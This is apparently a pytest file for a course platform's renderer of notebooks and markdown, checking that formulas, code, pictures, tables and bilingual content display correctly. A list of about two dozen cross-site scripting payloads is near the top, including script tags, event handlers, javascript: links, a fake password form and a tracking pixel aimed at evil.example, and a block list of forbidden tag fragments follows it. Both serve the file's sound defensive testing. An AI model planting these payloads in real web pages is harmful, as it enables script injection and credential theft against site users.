"""Course content in the page: hostile input stays text, and what teaches survives."""

import base64
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.web.i18n import Locale
from lms.web.rendering import BrokenContentError, Reading, render_markdown, render_unit
from tests.factories.content import code_cell, markdown_cell, notebook_bytes, shown, stream

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 20).decode()

LOCALES: tuple[Locale | None, ...] = ("ko", "en", None)

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "<a href='jAvAsCrIpT:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\class{btn}{x}\\style{position:fixed}{y}$$",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<iframe src='//evil.example'></iframe>",
    "<object data='//evil.example'></object>",
    "<form action='//evil.example'><input name=password><button>Sign in</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p hx-get='/logout' hx-trigger=load>x</p>",
    "<details ontoggle=alert(1) open>x</details>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
)

FORBIDDEN = (
    "<script", "onerror", "onload", "ontoggle", "javascript:", "<iframe", "<object", "<form",
    "<input", "<button", "<style", "<link", "<base", "<meta", "style=", "hx-", "evil.example/",
    "<svg",
)  # fmt: skip


def assert_harmless(markup: str) -> None:
    tags = "".join(f"<{part.split('>')[0]}>" for part in markup.split("<")[1:])
    for bad in FORBIDDEN:
        assert bad not in tags.lower(), (bad, markup)


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_brings_nothing_that_runs_or_loads(source: str) -> None:
    assert_harmless(render_markdown(source))


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_outputs_bring_nothing_that_runs_or_loads(source: str) -> None:
    cells = [
        code_cell(source, shown(text_html=source), shown(text_latex=source), stream(source)),
        code_cell("x", shown(text_markdown=source), stream(source, "stderr")),
        markdown_cell(source),
    ]
    assert_harmless(render(*cells).html)


@given(st.text(alphabet="<>\"'&/=$\\{}[]()`*#- abims!x\n", max_size=80))
@settings(max_examples=150, deadline=None)
def test_no_text_at_all_brings_script_or_breaks_rendering(source: str) -> None:
    assert_harmless(render_markdown(source))


def render(*cells: dict[str, Any], locale: Locale | None = None) -> Reading:
    return render_unit("unit.ipynb", notebook_bytes(*cells), locale)


def test_a_formula_becomes_mathml() -> None:
    page = render_markdown("Energy $E = mc^2$ and $$\\frac{1}{2}$$")
    assert "<math" in page
    assert "<mfrac>" in page
    assert "$" not in page


def test_what_is_wider_than_the_page_scrolls_by_keyboard() -> None:
    page = render_markdown("$$x$$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert '<div class="math block" tabindex="0">' in page
    assert '<div class="scroll" tabindex="0"><table>' in page


def test_a_formula_that_cannot_be_converted_is_shown_as_written() -> None:
    assert '<code class="formula">a_b_c</code>' in render_markdown("$a_b_c$")


def test_a_formula_nested_without_end_is_shown_as_written() -> None:
    assert "<code" in render_markdown("$" + "{" * 3000 + "$")


def test_markup_inside_a_formulas_text_stays_text() -> None:
    assert "&lt;b&gt;" in render_markdown("$\\text{<b>}$")


def test_code_is_coloured_and_reachable_by_keyboard() -> None:
    page = render(code_cell("def f(x):\n    return x")).html
    assert '<pre class="code" tabindex="0">' in page
    assert '<span class="k">def</span>' in page


def test_a_class_of_the_pages_own_parts_cannot_be_borrowed() -> None:
    assert "toast" not in render_markdown('<div class="toast btn go">Signed out</div>')


def test_an_id_of_the_page_cannot_be_borrowed() -> None:
    assert "id=" not in render_markdown('<h2 id="main">x</h2>')


def test_a_picture_comes_inline_with_its_text() -> None:
    output = shown(image_png=PNG)
    output["metadata"] = {"image/png": {"alt": 'Two "circles"'}}
    page = render(code_cell("plot()", output)).html
    assert f'src="data:image/png;base64,{PNG}"' in page
    assert 'alt="Two &quot;circles&quot;"' in page


@pytest.mark.parametrize("content", ['"><script>alert(1)</script>', "", "%%%"])
def test_what_is_no_picture_is_left_out(content: str) -> None:
    assert "<img" not in render(code_cell("plot()", shown(image_png=content))).html


def test_an_attachment_is_shown() -> None:
    cell = markdown_cell("![a](attachment:a.png)", attachments={"a.png": {"image/png": PNG}})
    assert f"base64,{PNG}" in render(cell).html


def test_a_table_of_a_data_frame_survives() -> None:
    page = render(code_cell("df", shown(text_html="<table><tr><td>1</td></tr></table>"))).html
    assert "<td>1</td>" in page


def test_colours_of_a_terminal_are_taken_out() -> None:
    page = render(code_cell("x", stream("\x1b[31mred\x1b[0m"))).html
    assert ">red<" in page


def test_a_long_output_is_cut() -> None:
    page = render(code_cell("x", stream("line\n" * 5000))).html
    assert page.count("line") == 120
    assert "…" in page


def test_one_language_is_kept_and_the_other_is_said_to_be_there() -> None:
    cells = [markdown_cell("한국어", "ko"), markdown_cell("---\n\nEnglish", "en"), code_cell("x")]
    korean, english, both = (render(*cells, locale=locale) for locale in LOCALES)
    assert "English" not in korean.html
    assert korean.has_other_language
    assert "한국어" not in english.html
    assert "<hr" not in english.html
    assert "English" in both.html
    assert "한국어" in both.html


def test_a_heading_in_two_languages_is_shortened_to_one() -> None:
    cells = [markdown_cell("## 1.2 깊은 복사 · Deep copies")]
    assert [h.text for h in render(*cells, locale="ko").outline] == ["1.2 깊은 복사"]
    assert [h.text for h in render(*cells, locale="en").outline] == ["1.2 Deep copies"]


def test_the_documents_title_is_left_to_the_page() -> None:
    reading = render(markdown_cell("# Title\n\ntext"), markdown_cell("## Part\n\n### Deeper"))
    assert "Title" not in reading.html
    assert '<h2 id="s-1">Part</h2>' in reading.html
    assert [(h.anchor, h.level) for h in reading.outline] == [("s-1", 2), ("s-2", 3)]


@pytest.mark.parametrize(
    "content", [b"", b"\xff\xfe", b"[]", b'{"cells": 3}', b"[" * 100_000, b'{"no": "cells"}']
)
def test_a_broken_notebook_is_one_sentence(content: bytes) -> None:
    with pytest.raises(BrokenContentError, match="is not a readable notebook"):
        render_unit("unit.ipynb", content, None)


@pytest.mark.parametrize(
    "cell",
    [
        {},
        {"cell_type": "code", "source": 3, "outputs": "x"},
        {"cell_type": "code", "source": ["a", 1], "outputs": [None, {"data": []}, {"data": 3}]},
        {"cell_type": "markdown", "source": "x", "metadata": [], "attachments": 3},
        {"cell_type": "raw", "source": "<b>"},
        {"cell_type": "code", "outputs": [{"output_type": "error", "traceback": ["a"]}]},
    ],
)
def test_an_odd_cell_does_not_stop_the_others(cell: dict[str, Any]) -> None:
    assert "after" in render(cell, markdown_cell("after")).html


def test_markdown_files_are_rendered_too() -> None:
    reading = render_unit("unit.md", "# T\n\n## 시작\n\n글 $x$".encode(), "ko")
    assert "<math" in reading.html
    assert reading.outline[0].text == "시작"
    assert reading.minutes == 1


def test_an_unknown_language_is_shown_without_colours() -> None:
    content = json.loads(notebook_bytes(code_cell("a < b")))
    content["metadata"] = {"language_info": {"name": "no such language"}}
    assert "a &lt; b" in render_unit("unit.ipynb", json.dumps(content).encode(), None).html
